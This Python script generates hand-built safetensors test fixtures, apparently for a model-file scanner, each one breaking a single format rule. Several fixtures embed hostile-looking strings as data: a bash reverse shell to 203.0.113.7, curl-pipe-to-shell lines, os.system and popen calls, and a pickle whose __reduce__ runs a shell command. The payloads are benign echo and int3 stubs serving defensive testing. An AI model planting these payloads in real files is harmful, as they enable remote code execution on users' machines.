#!/usr/bin/python3
"""Generate the safetensors fixtures in this folder.

Every file is written by hand (struct + json) so that each one breaks exactly one rule of the
format; none of them is produced by the safetensors library. Payloads are inert: a 120-byte
ELF header that only executes int3, a pickle that would call posix.system("echo aisec-test"),
a ZIP holding a text file. Run from anywhere: python3 gen.py
"""
import io
import json
import os
import pickle
import struct
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))


def header_bytes(obj_or_text, pad=b" ", align=8):
    text = obj_or_text if isinstance(obj_or_text, (bytes, str)) else json.dumps(obj_or_text, separators=(",", ":"))
    raw = text if isinstance(text, bytes) else text.encode("utf-8")
    extra = (align - len(raw) % align) % align
    return raw + pad * extra


def write(name, header, data=b"", pad=b" ", raw_header=False):
    hb = header if raw_header else header_bytes(header, pad)
    with open(os.path.join(HERE, name), "wb") as f:
        f.write(struct.pack("<Q", len(hb)))
        f.write(hb)
        f.write(data)


def f32(n):
    return struct.pack("<%df" % n, *[i * 0.5 for i in range(n)])


def tensors(*specs):
    """specs: (name, dtype, shape, nbytes) laid out contiguously like the reference writer."""
    hdr, data, off = {}, b"", 0
    for name, dtype, shape, blob in specs:
        hdr[name] = {"dtype": dtype, "shape": shape, "data_offsets": [off, off + len(blob)]}
        data += blob
        off += len(blob)
    return hdr, data


def tiny_elf():
    """ELF64 x86-64 executable header + one PT_LOAD program header + int3 instructions."""
    eh = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8)
    eh += struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    ph = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 128, 128, 0x1000)
    return eh + ph + b"\xcc" * 8


class _Payload:
    def __reduce__(self):
        return (os.system, ("echo aisec-test",))


def tiny_zip():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(zipfile.ZipInfo("notes.txt", date_time=(2024, 1, 1, 0, 0, 0)), "hidden archive member\n")
    return buf.getvalue()


def main():
    base, data = tensors(("bias", "F32", [4], f32(4)), ("weight", "F32", [2, 3], f32(6)),
                         ("ids", "I64", [2], struct.pack("<2q", 1, 2)), ("mask", "BOOL", [3], b"\x01\x00\x01"),
                         ("empty", "F16", [0], b""))
    write("benign.safetensors", dict(base, __metadata__={"format": "pt"}), data)
    lora_meta = {
        "format": "pt",
        "ss_sd_model_name": "sd_xl_base_1.0.safetensors",
        "ss_output_name": "my_style_lora",
        "ss_learning_rate": "0.0001",
        "ss_network_dim": "32",
        "ss_network_args": json.dumps({"conv_dim": "8", "algo": "locon"}),
        "ss_dataset_dirs": json.dumps({"10_style": {"n_repeats": 10, "img_count": 42}}),
        "ss_training_started_at": "1712345678.123456",
        "sshs_model_hash": "8f2b7c1e9d0a4f6b3c5e7a9d1b2c4e6f8a0b2d4f6e8c0a2b4d6f8e0a2c4b6d8f",
        "sshs_legacy_hash": "a1b2c3d4",
        "modelspec.architecture": "stable-diffusion-xl-v1-base/lora",
        "modelspec.date": "2024-04-05T12:34:56",
        "modelspec.title": "My style LoRA",
        "modelspec.license": "openrail++",
        "modelspec.usage_hint": "trigger word: mystyle",
        "ss_seed": "42",
        "ss_commit": "3b8d4f1c0e2a5b7d9f1e3c5a7b9d0f2e4c6a8b1d",
        "ss_run_id": "5f0c6b9e-8d2a-4e1f-9c3b-7a6d5e4f3a2b",
        "source": "https://huggingface.co/stabilityai/stable-diffusion-xl-base-1.0",
        "paper": "https://arxiv.org/abs/2106.09685",
    }
    write("benign_lora.safetensors", dict(base, __metadata__=lora_meta), data)

    one, one_data = tensors(("w", "F32", [2], f32(2)))
    hdr = header_bytes(one)
    # Parser differentials.
    txt = '{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"w":{"dtype":"F32","shape":[1],"data_offsets":[8,12]}}'
    write("dup_tensor.safetensors", txt, f32(3))
    txt = ('{"__metadata__":{"format":"pt"},"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},'
           '"__metadata__":{"format":"pt","note":"import os; os.system(\'id\')"}}')
    write("dup_metadata.safetensors", txt, one_data)
    txt = '{"__metadata__":{"note":"benign","note":"__import__(\'os\').popen(\'id\')"},"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'
    write("dup_meta_key.safetensors", txt, one_data)
    txt = '{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8],"scale":NaN}}'
    write("nan.safetensors", txt, one_data)
    write("bom.safetensors", b"\xef\xbb\xbf" + hdr, one_data)
    txt = '{"__metadata__":{"note":"a\\ud800b"},"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'
    write("lone_surrogate.safetensors", txt, one_data)
    txt = '{"__metadat\\u0061__":{"cmd":"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"},"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'
    write("escaped_key.safetensors", txt, one_data)

    # Headers the reference loader rejects.
    write("invalid_utf8.safetensors", b'{"__metadata__":{"n":"\xff\xfe"},"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}', one_data)
    write("syntax_error.safetensors", '{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},}', one_data)
    write("header_trailing.safetensors", json.dumps(one, separators=(",", ":")) + "\n#!/bin/sh\ncurl -s http://203.0.113.7/x | sh\n", one_data)
    write("not_object.safetensors", '["import os"]', b"")
    txt = '{"__metadata__":{"cfg":{"hook":"subprocess.Popen([\'sh\'])"},"n":3},"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'
    write("bad_metadata.safetensors", txt, one_data)
    txt = '{"w":{"dtype":"F32","shape":[2.0],"data_offsets":[0,8]},"v":{"dtype":"F32","data_offsets":[8,8]}}'
    write("bad_tensor.safetensors", txt, one_data)
    write("tab_padding.safetensors", one, one_data, pad=b"\n")

    # Accepted by the loader but carrying text it ignores.
    txt = '{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8],"comment":"curl http://203.0.113.7/s.sh | sh"}}'
    write("extra_field.safetensors", txt, one_data)

    # Layout anomalies.
    write("unknown_dtype.safetensors", {"w": {"dtype": "f32", "shape": [2], "data_offsets": [0, 8]}}, one_data)
    write("subbyte.safetensors", {"w": {"dtype": "F4", "shape": [3], "data_offsets": [0, 2]}}, b"\x00\x00")
    write("size_mismatch.safetensors", {"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 12]}}, f32(3))
    write("overflow.safetensors", {"w": {"dtype": "F32", "shape": [4294967296, 4294967296, 16], "data_offsets": [0, 8]}}, one_data)
    write("out_of_bounds.safetensors", {"w": {"dtype": "F32", "shape": [1024], "data_offsets": [0, 4096]}}, one_data)
    write("inverted.safetensors", {"w": {"dtype": "F32", "shape": [2], "data_offsets": [8, 0]}}, one_data)
    write("overlap.safetensors", {"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
                                  "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]}}, f32(3))
    write("gap.safetensors", {"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
                              "b": {"dtype": "F32", "shape": [2], "data_offsets": [72, 80]}}, f32(2) + bytes(64) + f32(2))
    write("trailing.safetensors", one, one_data + b"\x00\x01\x02\x03" * 8)

    # Payloads in uncovered bytes and in tensor data.
    write("elf_trailing.safetensors", one, one_data + tiny_elf())
    pkl = pickle.dumps(_Payload(), protocol=4)
    write("pickle_gap.safetensors", {"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
                                     "b": {"dtype": "F32", "shape": [2], "data_offsets": [8 + len(pkl), 16 + len(pkl)]}},
          f32(2) + pkl + f32(2))
    write("zip_trailing.safetensors", one, one_data + tiny_zip())
    elf = tiny_elf()
    write("exe_tensor.safetensors", {"blob": {"dtype": "U8", "shape": [len(elf)], "data_offsets": [0, len(elf)]}}, elf)


if __name__ == "__main__":
    main()
